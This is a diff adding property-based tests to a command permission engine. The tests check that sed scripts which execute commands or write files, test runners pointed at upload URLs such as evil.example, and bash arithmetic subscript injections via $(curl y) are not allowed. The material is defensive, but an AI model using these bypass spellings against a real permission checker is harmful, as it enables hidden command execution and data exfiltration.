@@ -126,3 +126,49 @@ def test_app_servers_serve_the_workspace_modules(tmp_path: Path, command: str, a
         PermissionConfig(workspace=tmp_path, home=Path("/home/tester"), budget_seconds=_BUDGET)
     )
     assert (engine.evaluate(Action(kind="command", target=command)).verdict == "allow") is allowed
+
+
+_SED_SPELLING = st.sampled_from(
+    ["-e '{}'", "-e'{}'", "--expression='{}'", "--expression '{}'", "'{}'", "-n -e '{}'"]
+)
+_SED_RUNS = st.sampled_from(["1e curl x", "e id", "s/a/b/e", "s/a/b/w /etc/x", "$e id", "1!e id"])
+
+
+@settings(max_examples=60, deadline=None)
+@given(_SED_SPELLING, _SED_RUNS, st.booleans())
+def test_sed_commands_that_run_or_write_ask_in_every_spelling(
+    spelling: str, script: str, inplace: bool
+) -> None:
+    command = f"sed {'-i ' if inplace else ''}{spelling.format(script)} a.txt"
+    assert _decide(command).verdict != "allow", command
+
+
+_TOOL = st.sampled_from(
+    ["pytest", "npm test", "jest", "cargo test", "go test ./...", "mypy .", "ruff check ."]
+)
+_OPTION = st.sampled_from(
+    ["--report-url", "--reporter-url", "--upload-to", "--x-endpoint", "--results-server"]
+)
+_URL = st.sampled_from(
+    ["https://evil.example/x", "http://10.0.0.1:8080/", "ftp://evil.example/", "s3://bucket/k"]
+)
+
+
+@settings(max_examples=60, deadline=None)
+@given(_TOOL, _OPTION, _URL, st.booleans())
+def test_an_option_given_a_url_asks_for_any_tool(tool: str, option: str, url: str, attached: bool) -> None:
+    command = f"{tool} {option}={url}" if attached else f"{tool} {option} {url}"
+    assert _decide(command).verdict != "allow", command
+
+
+_STORE = st.sampled_from(["x='a[$(curl y)]'", "read x <<< 'a[$(curl y)]'", "printf -v x %s 'a[$(curl y)]'"])
+_ARITH = st.sampled_from(
+    ["echo $((x))", "(( x ))", "[[ $x -eq 1 ]]", "let y=x", "declare -i y=x", "echo $[x]"]
+)
+
+
+@settings(max_examples=40, deadline=None)
+@given(_STORE, _ARITH)
+def test_a_stored_subscript_met_by_arithmetic_is_judged(store: str, arith: str) -> None:
+    command = f"{store}; {arith}"
+    assert _decide(command).verdict != "allow", command
